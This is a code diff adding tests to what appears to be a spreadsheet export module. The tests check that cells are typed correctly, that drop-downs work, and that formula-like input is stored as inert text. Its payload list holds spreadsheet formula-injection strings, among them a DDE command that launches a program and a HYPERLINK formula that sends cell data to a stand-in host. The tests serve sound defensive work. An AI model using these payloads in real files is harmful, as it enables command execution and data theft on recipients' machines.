@@ -4,6 +4,8 @@ import { describe, expect, it } from 'vitest'
 import { inlineRow, sheetOf, workbookParts, zip } from '../../../../tests/fixtures/spreadsheets/archive.ts'
 import { registerFile, registerRow, registerTitles } from '../../../../tests/support/register-file.ts'
 import { readWorkbook, type ReadOptions } from './read-workbook.ts'
+import { writeWorkbook } from './write-workbook.ts'
+import { checkDirectory, inflate } from './zip-check.ts'
 
 const fixture = (name: string): Buffer =>
   readFileSync(new URL(`../../../../tests/fixtures/spreadsheets/${name}`, import.meta.url))
@@ -215,4 +217,101 @@ describe('hostile and broken files are refused by name', () => {
     expect((await outcome(bytes, { memoryMb: 8 })).code).toBe('SHEET_TOO_HEAVY')
     expect((await outcome(bytes, { seconds: 0.02 })).code).toBe('SHEET_TOO_HEAVY')
   }, 30_000)
+})
+
+describe('files that are written', () => {
+  // = + - @ and what hides them, their full-width forms, and commands seen in the wild.
+  const payloads = [
+    ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [
+      `${sign}1+1`,
+      `\t${sign}1`,
+      `\n${sign}1`,
+      ` ${sign}SUM(A1)`,
+    ]),
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.com?"&A1,"x")',
+    '@SUM(1+1)*cmd|A0',
+    '+1-1|A0',
+    '{=1+1}',
+    '"=1+1"',
+    ';=1',
+    '=1]]></t><f>1+1</f>',
+  ]
+
+  it('hold formula-like texts as texts, in columns of every kind', async () => {
+    const bytes = await writeWorkbook({
+      name: 'x',
+      columns: [
+        { title: '=名', width: 10, value: (row: string) => row },
+        { title: '数', width: 10, kind: 'number', value: (row: string) => row },
+        { title: '日', width: 10, kind: 'date', value: (row: string) => row },
+      ],
+      rows: payloads,
+    })
+    const entries = await checkDirectory(bytes)
+    const sheet = entries.ok && entries.value.find((it) => it.name === 'xl/worksheets/sheet1.xml')
+    const part = sheet && inflate(bytes, sheet)
+    const xml = part && part.ok ? part.value.toString() : ''
+    expect(xml).not.toMatch(/<f[ >]/)
+    expect(xml.match(/<c [^>]*t="s"/g)).toHaveLength(3 * (payloads.length + 1))
+    const rows = await cellsOf(bytes)
+    expect(rows.slice(1)).toEqual(payloads.map((text) => [text, text, text]))
+    const book = new ExcelJS.Workbook()
+    await book.xlsx.load(bytes as unknown as ArrayBuffer)
+    expect([1, 2, 3].map((at) => book.worksheets[0]!.getCell(2, at).numFmt)).toEqual(['@', '@', '@'])
+  })
+
+  it('keep codes and phones as text, dates as dates, and take no sign XML forbids', async () => {
+    const bytes = await writeWorkbook({
+      name: '名册[2026]/1:甲乙丙丁戊己庚辛壬癸甲乙丙丁戊己庚辛壬癸',
+      columns: [
+        { title: '代码', width: 20, value: () => '911321324000000001' },
+        { title: '日', width: 10, kind: 'date', value: () => '2026-11-23' },
+        { title: '字', width: 10, value: () => 'a\u0000\u000bb\ud800' },
+        { title: '数', width: 10, kind: 'number', value: () => 7 },
+      ],
+      rows: [null],
+    })
+    expect((await cellsOf(bytes))[1]).toEqual(['911321324000000001', '2026-11-23', 'ab\ufffd', 7])
+  })
+
+  it('offer drop-downs, long and odd ones from a hidden sheet, closed or open', async () => {
+    const long = Array.from({ length: 60 }, (_, at) => `第${at}号乡镇街道`)
+    const bytes = await writeWorkbook({
+      name: 'x',
+      columns: [
+        { title: '级', width: 8, value: () => null, choices: ['县级', '市级'], orOther: true },
+        { title: '镇', width: 8, value: () => null, choices: long },
+        { title: '逗', width: 8, value: () => null, choices: ['a,b', 'c'] },
+      ],
+      rows: [],
+      spareRows: 10,
+    })
+    const book = new ExcelJS.Workbook()
+    await book.xlsx.load(bytes as unknown as ArrayBuffer)
+    const sheet = book.worksheets[0]!
+    expect(sheet.getCell('A5').dataValidation.formulae).toEqual(['"县级,市级"'])
+    expect(sheet.getCell('A5').dataValidation.showErrorMessage).not.toBe(true)
+    expect(sheet.getCell('B5').dataValidation).toMatchObject({ formulae: ['选项!$A$1:$A$60'], showErrorMessage: true })
+    expect(sheet.getCell('C11').dataValidation.formulae).toEqual(['选项!$B$1:$B$2'])
+    expect(book.getWorksheet('选项')!.state).toBe('veryHidden')
+    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
+  })
+
+  it('paint the cells that are bad, and no others', async () => {
+    const bytes = await writeWorkbook({
+      name: 'x',
+      columns: [
+        { title: '甲', width: 8, value: (row: number) => row },
+        { title: '错误原因', width: 40, value: () => '甲：不对' },
+      ],
+      rows: [1, 2],
+      bad: (row) => (row === 2 ? ['甲'] : []),
+    })
+    const book = new ExcelJS.Workbook()
+    await book.xlsx.load(bytes as unknown as ArrayBuffer)
+    const fill = (ref: string) =>
+      (book.worksheets[0]!.getCell(ref).fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb
+    expect(['A2', 'A3', 'B3'].map(fill)).toEqual([undefined, 'FFFFC7C2', undefined])
+  })
 })
